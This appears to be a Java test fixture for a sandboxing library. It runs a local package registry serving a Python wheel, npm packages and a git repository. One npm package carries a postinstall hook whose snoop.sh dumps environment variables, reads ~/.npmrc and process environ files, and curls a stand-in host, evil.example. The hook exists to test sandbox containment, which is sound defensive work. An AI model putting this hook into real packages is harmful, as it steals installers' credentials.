package io.sandbox4j.bubblewrap;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import io.sandbox4j.gateway.LocalGateway;

/**
 * An origin over TLS that wants a credential: an interface, an index of Python packages,
 * a registry of npm packages, and a git repository over smart HTTP.
 */
final class PackageRegistry implements AutoCloseable {

	static final String HOST = "registry.example";

	static final String CREDENTIAL = "Bearer registry-secret-5ebe2294";

	private final HttpsServer server;

	private final ExecutorService workers = Executors.newCachedThreadPool();

	private final Path root;

	private final Queue<String> refused = new ConcurrentLinkedQueue<>();

	PackageRegistry(Path root) throws Exception {
		this.root = Files.createDirectories(root);
		this.server = HttpsServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
		this.server.setHttpsConfigurator(new HttpsConfigurator(LocalGateway.tls(HOST)));
		this.server.setExecutor(this.workers);
		handle("/json", (exchange) -> reply(exchange, "application/json", "{\"answer\":42}".getBytes()));
		handle("/echo", (exchange) -> reply(exchange, "text/plain",
				exchange.getRequestHeaders().entrySet().toString().getBytes()));
		handle("/upload", (exchange) -> reply(exchange, "text/plain",
				(exchange.getRequestBody().readAllBytes().length + " bytes").getBytes()));
		handle("/simple/tinypkg/", (exchange) -> reply(exchange, "text/html",
				"<a href=\"/files/tinypkg-1.0-py3-none-any.whl\">tinypkg-1.0-py3-none-any.whl</a>".getBytes()));
		byte[] wheel = wheel();
		handle("/files/", (exchange) -> reply(exchange, "application/octet-stream", wheel));
		npmPackage("tiny-npm", "");
		npmPackage("script-npm", ",\"scripts\":{\"postinstall\":\"sh snoop.sh\"}");
		this.server.start();
	}

	/**
	 * Serves a git repository of 20 commits too.
	 */
	void withGit() throws IOException {
		repository();
		handle("/git/", this::git);
	}

	/**
	 * Serves the files of a directory too.
	 * @param path the path of the URL, with a slash at its end
	 * @param directory the directory
	 * @return this registry
	 */
	PackageRegistry withFiles(String path, Path directory) {
		handle(path, (exchange) -> {
			Path file = directory.resolve(exchange.getRequestURI().getPath().substring(path.length())).normalize();
			if (file.startsWith(directory) && Files.isRegularFile(file)) {
				reply(exchange, "application/octet-stream", Files.readAllBytes(file));
			}
			else {
				exchange.sendResponseHeaders(404, -1);
			}
		});
		return this;
	}

	int port() {
		return this.server.getAddress().getPort();
	}

	String origin() {
		return "https://" + HOST + ":" + port();
	}

	/**
	 * Returns what guests write, through the proxy variables.
	 * @return the URL's start
	 */
	String url() {
		return "http://" + HOST + ":" + port();
	}

	/**
	 * Returns the requests that came without the credential.
	 * @return their paths
	 */
	List<String> refused() {
		return List.copyOf(this.refused);
	}

	private void handle(String path, Handler handler) {
		this.server.createContext(path, (exchange) -> {
			try (exchange) {
				if (!CREDENTIAL.equals(exchange.getRequestHeaders().getFirst("Authorization"))) {
					this.refused.add(exchange.getRequestURI().getPath());
					exchange.sendResponseHeaders(401, -1);
					return;
				}
				handler.handle(exchange);
			}
		});
	}

	private static void reply(HttpExchange exchange, String type, byte[] body) throws IOException {
		exchange.getResponseHeaders().set("Content-Type", type);
		exchange.sendResponseHeaders(200, body.length);
		exchange.getResponseBody().write(body);
	}

	private static byte[] wheel() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			Map<String, String> files = Map.of("tinypkg.py", "ANSWER = 42\n", "tinypkg-1.0.dist-info/METADATA",
					"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n", "tinypkg-1.0.dist-info/WHEEL",
					"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
					"tinypkg-1.0.dist-info/RECORD",
					"tinypkg.py,,\ntinypkg-1.0.dist-info/METADATA,,\ntinypkg-1.0.dist-info/WHEEL,,\n"
							+ "tinypkg-1.0.dist-info/RECORD,,\n");
			for (Map.Entry<String, String> file : files.entrySet()) {
				zip.putNextEntry(new ZipEntry(file.getKey()));
				zip.write(file.getValue().getBytes(StandardCharsets.US_ASCII));
			}
		}
		return bytes.toByteArray();
	}

	private void npmPackage(String name, String manifest) throws IOException {
		Path directory = Files.createDirectories(this.root.resolve("npm-" + name + "/package"));
		String description = "\"name\":\"" + name + "\",\"version\":\"1.0.0\"" + manifest;
		Files.writeString(directory.resolve("package.json"), "{" + description + ",\"main\":\"index.js\"}");
		Files.writeString(directory.resolve("index.js"), "module.exports = 42;\n");
		Files.writeString(directory.resolve("snoop.sh"), """
				exec >/workspace/snooped 2>&1
				env
				cat ~/.npmrc /run/sandbox/* /proc/[0-9]*/environ
				curl -sS http://evil.example/
				""");
		Path archive = this.root.resolve(name + ".tgz");
		run(this.root, "tar", "-czf", archive.toString(), "-C", directory.getParent().toString(), "package");
		byte[] tarball = Files.readAllBytes(archive);
		handle("/" + name, (exchange) -> reply(exchange, "application/json", npmDocument(name, description, tarball)));
		handle("/" + name + "/-/", (exchange) -> reply(exchange, "application/octet-stream", tarball));
	}

	private byte[] npmDocument(String name, String description, byte[] tarball) {
		String integrity = "sha512-" + Base64.getEncoder().encodeToString(digest(tarball));
		return ("{\"name\":\"" + name + "\",\"dist-tags\":{\"latest\":\"1.0.0\"},\"versions\":{\"1.0.0\":{"
				+ description + ",\"dist\":{\"tarball\":\"" + url() + "/" + name + "/-/" + name
				+ "-1.0.0.tgz\",\"integrity\":\"" + integrity + "\"}}}}")
			.getBytes(StandardCharsets.US_ASCII);
	}

	private static byte[] digest(byte[] bytes) {
		try {
			return MessageDigest.getInstance("SHA-512").digest(bytes);
		}
		catch (NoSuchAlgorithmException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private void repository() throws IOException {
		StringBuilder history = new StringBuilder();
		for (int i = 0; i < 20; i++) {
			String content = ("line " + i + "\n").repeat(2000);
			history.append("commit refs/heads/main\ncommitter t <t@example.com> 0 +0000\ndata 1\n")
				.append("c\nM 644 inline file-" + i + ".txt\ndata " + content.length() + "\n" + content + "\n");
		}
		Path stream = Files.writeString(this.root.resolve("history"), history);
		Path bare = Files.createDirectories(this.root.resolve("git/project.git"));
		run(bare, "sh", "-c", "git init -q --bare -b main && git config http.receivepack true && "
				+ "git fast-import --quiet <\"$1\"", "sh", stream.toString());
	}

	// RFC 3875, as git-http-backend(1) wants it.
	private void git(HttpExchange exchange) throws IOException {
		ProcessBuilder builder = new ProcessBuilder("git", "http-backend");
		Map<String, String> environment = builder.environment();
		environment.put("GIT_PROJECT_ROOT", this.root.resolve("git").toString());
		environment.put("GIT_HTTP_EXPORT_ALL", "1");
		environment.put("GIT_CONFIG_COUNT", "1");
		environment.put("GIT_CONFIG_KEY_0", "safe.directory");
		environment.put("GIT_CONFIG_VALUE_0", "*");
		environment.put("REMOTE_USER", "guest");
		environment.put("PATH_INFO", exchange.getRequestURI().getPath().substring("/git".length()));
		environment.put("QUERY_STRING", String.valueOf(exchange.getRequestURI().getRawQuery()));
		environment.put("REQUEST_METHOD", exchange.getRequestMethod());
		put(environment, "CONTENT_TYPE", exchange, "Content-Type");
		put(environment, "HTTP_CONTENT_ENCODING", exchange, "Content-Encoding");
		put(environment, "GIT_PROTOCOL", exchange, "Git-Protocol");
		byte[] body = exchange.getRequestBody().readAllBytes();
		environment.put("CONTENT_LENGTH", String.valueOf(body.length));
		Process process = builder.redirectError(ProcessBuilder.Redirect.DISCARD).start();
		try (OutputStream in = process.getOutputStream()) {
			in.write(body);
		}
		try (InputStream out = process.getInputStream()) {
			int status = 200;
			for (String line = line(out); !line.isEmpty(); line = line(out)) {
				String[] field = line.split(": ", 2);
				if (field[0].equals("Status")) {
					status = Integer.parseInt(field[1].substring(0, 3));
				}
				else {
					exchange.getResponseHeaders().set(field[0], field[1]);
				}
			}
			exchange.sendResponseHeaders(status, 0);
			out.transferTo(exchange.getResponseBody());
		}
	}

	private static void put(Map<String, String> environment, String name, HttpExchange exchange, String header) {
		String value = exchange.getRequestHeaders().getFirst(header);
		if (value != null) {
			environment.put(name, value);
		}
	}

	private static String line(InputStream in) throws IOException {
		StringBuilder line = new StringBuilder();
		for (int c = in.read(); c >= 0 && c != '\n'; c = in.read()) {
			line.append((char) c);
		}
		return line.toString().strip();
	}

	private static void run(Path directory, String... command) throws IOException {
		Process process = new ProcessBuilder(command).directory(directory.toFile()).redirectErrorStream(true).start();
		String output = new String(process.getInputStream().readAllBytes());
		try {
			if (process.waitFor() != 0) {
				throw new IOException(List.of(command) + ": " + output);
			}
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new UncheckedIOException(new IOException(ex));
		}
	}

	@Override
	public void close() {
		this.server.stop(0);
		this.workers.shutdownNow();
	}

	/**
	 * Answers a request that had the credential.
	 */
	@FunctionalInterface
	private interface Handler {

		void handle(HttpExchange exchange) throws IOException;

	}

}
